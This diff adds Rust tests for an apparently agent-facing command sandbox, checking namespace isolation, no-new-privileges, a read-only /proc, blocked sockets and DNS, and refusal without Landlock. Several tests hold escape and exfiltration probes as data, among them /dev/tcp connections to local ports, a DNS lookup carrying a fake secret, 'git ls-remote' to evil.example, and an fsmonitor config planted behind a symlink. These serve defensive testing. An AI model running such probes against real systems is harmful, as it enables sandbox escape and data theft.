@@ -243,6 +243,23 @@ async fn c2_protected_files_that_a_command_makes_are_moved_aside() {
     assert_eq!((finished.status, finished.quarantined), (Status::Exited(0), vec![]));
 }
 
+/// C2: a link that stood at a protected place, and that no command changed, stays; so does what it leads to.
+#[tokio::test]
+async fn c2_links_that_were_there_stay() {
+    let place = Place::new();
+    let work = place.work.path().canonicalize().unwrap();
+    let victim = place.outside.path().canonicalize().unwrap();
+    symlink("a", work.join(".vscode")).unwrap();
+    symlink(&victim, work.join(".git")).unwrap();
+    let sandbox = full_or_skip!(place.options());
+    // What appears behind the link meanwhile is not this workspace's to move.
+    let appear = |_: &[u8]| fs::write(victim.join("config"), "[core]\n\tfsmonitor = x\n").unwrap();
+    let command = place.boxed(&sandbox, "echo x; cat");
+    let finished = run(&command, CancellationToken::new(), &appear).await.unwrap();
+    assert_eq!((finished.status, finished.quarantined), (Status::Exited(0), vec![]));
+    assert!(work.join(".vscode").is_symlink() && work.join(".git").is_symlink() && victim.join("config").exists());
+}
+
 /// C2: neither a link nor a file in place of the repository leads us to touch what lies elsewhere.
 #[tokio::test]
 async fn c2_a_false_repository_is_moved_aside_and_nothing_else() {
@@ -573,4 +590,157 @@ async fn inside_without_namespaces() {
     assert_eq!(fs::read_dir(&out).unwrap().count(), 0);
     let finished = place.finish(&sandbox, "echo x > .envrc").await;
     assert_eq!(finished.quarantined.len(), 1);
+}
+
+/// C5: every namespace is another than the machine's, and nobody outside is there.
+#[tokio::test]
+async fn c5_processes_outside_do_not_exist_in_the_box() {
+    let place = Place::new();
+    let sandbox = full_or_skip!(place.options());
+    for name in ["user", "pid", "mnt", "ipc", "uts", "net"] {
+        let ours = fs::read_link(format!("/proc/self/ns/{name}")).unwrap();
+        let (text, _) = place.says(&sandbox, &format!("readlink /proc/self/ns/{name}")).await;
+        assert!(text.starts_with(&format!("{name}:[")) && text.trim() != ours.to_str().unwrap(), "{name}: {text}");
+    }
+    // A process of ours with a mark, under its own number and under every other.
+    let mark = format!("302.{}", std::process::id());
+    let mut other = std::process::Command::new("sleep").arg(&mark).spawn().unwrap();
+    // The one who looks has no such words.
+    let pattern = mark.replacen('3', "[3]", 1);
+    let line = format!(
+        "cat /proc/[0-9]*/cmdline | grep -ac -- '{pattern}'; kill -0 {0} 2>&1 | grep -c 'No such'; \
+         kill -9 {0} 2>/dev/null; echo $$",
+        other.id()
+    );
+    let (text, _) = place.says(&sandbox, &line).await;
+    let alive = other.try_wait().unwrap().is_none();
+    other.kill().unwrap();
+    other.wait().unwrap();
+    assert!(alive, "it was killed from the box");
+    assert_eq!(text.trim(), "0\n1\n2");
+}
+
+/// C5: what says "no new privileges" cannot be taken back, and holds for what is executed next.
+#[tokio::test]
+async fn c5_no_new_privileges_stays() {
+    let place = Place::new();
+    let sandbox = full_or_skip!(place.options());
+    let code = "import ctypes,os\nl=ctypes.CDLL(None,use_errno=True)\nprint(l.prctl(39,0,0,0,0), l.prctl(38,0,0,0,0))\n\
+                os.execvp('grep',['grep','-o','NoNewPrivs:.1','/proc/self/status'])";
+    place.good(&sandbox, &python(code), "1 -1\nNoNewPrivs:\t1").await;
+}
+
+/// C1: `/proc` is read-only by itself: also what Landlock does not look at, such as times, cannot be changed there.
+#[tokio::test]
+async fn c1_proc_is_read_only() {
+    let place = Place::new();
+    let sandbox = full_or_skip!(place.options());
+    let code =
+        "import os\ntry:\n os.utime('/proc/self/comm')\n print('changed')\nexcept OSError as e:\n print(e.errno)";
+    place.good(&sandbox, &python(code), &libc::EROFS.to_string()).await;
+    place.good(&sandbox, "awk '$5 == \"/proc\" { print $6 }' /proc/self/mountinfo | tail -1 | cut -d, -f1", "ro").await;
+}
+
+/// C4: a socket with an abstract name is out of reach, whoever of the machine's programs it belongs to.
+#[tokio::test]
+async fn c4_abstract_socket_cut_off() {
+    use std::os::linux::net::SocketAddrExt;
+    let place = Place::new();
+    let name = format!("reasonix-abstract-{}", std::process::id());
+    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
+    let server = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
+    server.set_nonblocking(true).unwrap();
+    let sandbox = full_or_skip!(place.options());
+    let code = format!(
+        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect('\\0{name}')\n print('in')\n\
+         except ConnectionRefusedError:\n print('nobody')"
+    );
+    // Nobody has the name in the box's own network.
+    place.good(&sandbox, &python(&code), "nobody").await;
+    assert!(server.accept().is_err());
+}
+
+/// C8: a port or a socket of ours cannot be asked to run anything outside.
+#[tokio::test]
+async fn c8_the_agents_own_doors_are_not_reached() {
+    let place = Place::new();
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let path = place.home.path().join("rpc.sock");
+    let socket = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    port.set_nonblocking(true).unwrap();
+    socket.set_nonblocking(true).unwrap();
+    let sandbox = full_or_skip!(place.options());
+    let number = port.local_addr().unwrap().port();
+    place.bad(&sandbox, &format!("exec 3<>/dev/tcp/127.0.0.1/{number}")).await;
+    place.bad(&sandbox, &format!("exec 3<>/dev/tcp/localhost/{number}")).await;
+    let code = format!("import socket; socket.socket(socket.AF_UNIX).connect('{}')", path.display());
+    place.bad(&sandbox, &python(&code)).await;
+    assert!(port.accept().is_err() && socket.accept().is_err());
+}
+
+/// G4: a name with a secret in it reaches no name server: there is none to be reached.
+#[tokio::test]
+async fn g4_no_name_leaves_the_box() {
+    let place = Place::new();
+    let sandbox = full_or_skip!(place.options());
+    let code = "import socket\nfor ask in (lambda: socket.getaddrinfo('sk-secret.example.com', 80),\n lambda: \
+                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.53', 53)),\n lambda: \
+                socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::53', 53))):\n \
+                try:\n  ask()\n  print('sent')\n except OSError:\n  print('refused')";
+    place.good(&sandbox, &python(code), "refused\nrefused\nrefused").await;
+    for line in
+        ["getent hosts sk-secret.example.com", "git ls-remote https://evil.example/x.git", "curl -s http://192.0.2.1/"]
+    {
+        place.bad(&sandbox, line).await;
+    }
+}
+
+/// C7: a kernel without Landlock is refused with the reason, at either level.
+#[test]
+fn c7_without_landlock_nothing_runs() {
+    let out = std::process::Command::new(std::env::current_exe().unwrap())
+        .args(["--ignored", "--exact", "inside_without_landlock"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success() && text.contains("1 passed"), "{text}{}", String::from_utf8_lossy(&out.stderr));
+}
+
+#[test]
+#[ignore = "run by the test above, in a process that loses Landlock"]
+fn inside_without_landlock() {
+    take_landlock_away();
+    let place = Place::new();
+    for least in [SandboxLevel::Full, SandboxLevel::Partial] {
+        match Sandbox::prepare(place.options(), least) {
+            Err(ExecError::NoSandbox { wanted, reason }) => {
+                assert!(wanted == least && reason.contains("no Landlock"), "{reason}");
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+}
+
+/// Has the kernel say to this thread that it knows no `landlock_create_ruleset`.
+#[allow(unsafe_code)]
+fn take_landlock_away() {
+    let jump = |code: u32, yes: u8, no: u8, k: u32| libc::sock_filter {
+        code: u16::try_from(code).unwrap(),
+        jt: yes,
+        jf: no,
+        k,
+    };
+    let number = u32::try_from(libc::SYS_landlock_create_ruleset).unwrap();
+    let filter = [
+        jump(libc::BPF_LD | libc::BPF_W | libc::BPF_ABS, 0, 0, 0),
+        jump(libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K, 0, 1, number),
+        jump(libc::BPF_RET | libc::BPF_K, 0, 0, libc::SECCOMP_RET_ERRNO | libc::ENOSYS.unsigned_abs()),
+        jump(libc::BPF_RET | libc::BPF_K, 0, 0, libc::SECCOMP_RET_ALLOW),
+    ];
+    let program = libc::sock_fprog { len: 4, filter: filter.as_ptr().cast_mut() };
+    // SAFETY: the filter lives through the calls.
+    unsafe {
+        assert_eq!(libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), 0);
+        assert_eq!(libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &raw const program), 0);
+    }
 }
